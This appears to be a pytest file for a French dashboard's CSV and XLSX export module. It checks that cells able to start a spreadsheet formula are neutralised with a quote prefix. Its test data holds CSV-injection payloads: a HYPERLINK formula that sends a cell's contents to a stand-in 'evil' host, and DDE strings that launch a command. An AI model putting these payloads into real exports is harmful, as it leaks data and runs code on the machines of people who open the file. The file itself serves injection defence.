"""The one CSV and XLSX writer (dashboard.domain.tableur): a French spreadsheet's format, and
no text cell that a spreadsheet would run as a formula; numbers stay numbers."""
import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import pytest

from dashboard.domain import tableur

# OWASP "CSV injection": what a spreadsheet takes for the start of a formula.
PIEGES = ["=HYPERLINK(\"http://evil/?\"&A1,\"clic\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1", "\r=1+1"]
INOFFENSIFS = ["Calvaire", "1+1=2", " =pas en tête", "", "l'église", "2A004"]


def _frame() -> pd.DataFrame:
    n = len(PIEGES)
    return pd.DataFrame({
        "Texte": PIEGES + INOFFENSIFS,
        "Nombre": [-1.5, 2.25, -3.0, 0.0, 10.0, -7.5] + [1.0] * len(INOFFENSIFS),
        "Entier": list(range(-n, 0)) + list(range(len(INOFFENSIFS))),
        "Date": [date(2024, 5, 17)] * (n + len(INOFFENSIFS)),
    })


def test_formula_starts_are_recognised():
    assert all(tableur.formule_possible(v) for v in PIEGES)
    assert not any(tableur.formule_possible(v) for v in INOFFENSIFS)
    assert not tableur.formule_possible(-1.5) and not tableur.formule_possible(None)


def test_csv_text_cells_are_text_and_numbers_stay_numbers():
    data = tableur.csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")                      # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["Texte", "Nombre", "Entier", "Date"]
    textes = [r[0] for r in rows[1:]]
    assert textes[:len(PIEGES)] == ["'" + v for v in PIEGES]    # behind a quote: text, never a formula
    assert textes[len(PIEGES):] == INOFFENSIFS                  # everything else as is
    assert [r[1] for r in rows[1:4]] == ["-1,5", "2,25", "-3,0"]  # negative numbers: numbers, decimal comma
    assert rows[1][2] == "-6" and rows[1][3] == "17/05/2024"  # a French spreadsheet reads it as a date
    for row in rows[1:]:
        assert not row[0].startswith(tableur.DEBUTS_DE_FORMULE)


def test_csv_headers_are_safe_too():
    data = tableur.csv_bytes(pd.DataFrame({"=A1": [1]}))
    assert data.decode("utf-8-sig").splitlines()[0] == "'=A1"


def test_streamed_csv_is_safe():
    out = io.StringIO(newline="")
    tableur.ecrire_csv(out, ("ligne", "ref", "detail"), [(1, "PM01000001", PIEGES[0]), (2, "@x", -4)])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["ligne", "ref", "detail"], ["1", "PM01000001", "'" + PIEGES[0]], ["2", "'@x", "-4"]]


def test_xlsx_never_holds_a_formula():
    book = openpyxl.load_workbook(io.BytesIO(tableur.xlsx_bytes(_frame(), "Feuille", (30, 10))))
    sheet = book["Feuille"]
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["A"].width == 30
    cells = list(sheet.iter_rows(min_row=2))
    for cell in (row[0] for row in cells if row[0].value is not None):
        assert cell.data_type in ("s", "inlineStr")              # a string cell, never "f"
    # (XML reads a carriage return back as a newline)
    assert [row[0].value for row in cells] == [v.replace("\r", "\n") for v in PIEGES] + [v or None for v in INOFFENSIFS]
    assert all(row[0].quotePrefix for row in cells[:len(PIEGES)])  # stays text when edited in Excel
    assert not any(row[0].quotePrefix for row in cells[len(PIEGES):])
    assert [row[1].value for row in cells[:3]] == [-1.5, 2.25, -3.0] and cells[0][1].data_type == "n"
    assert cells[0][2].value == -6 and cells[0][2].data_type == "n"
    assert cells[0][3].value.date() == date(2024, 5, 17)
    raw = io.BytesIO(tableur.xlsx_bytes(_frame(), "Feuille"))
    import zipfile

    sheet_xml = zipfile.ZipFile(raw).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@pytest.mark.parametrize("valeur", [None, float("nan"), pd.NA, pd.NaT])
def test_xlsx_missing_values_are_empty(valeur):
    frame = pd.DataFrame({"a": pd.Series([valeur], dtype=object)})
    sheet = openpyxl.load_workbook(io.BytesIO(tableur.xlsx_bytes(frame, "x"))).active
    assert sheet["A2"].value is None
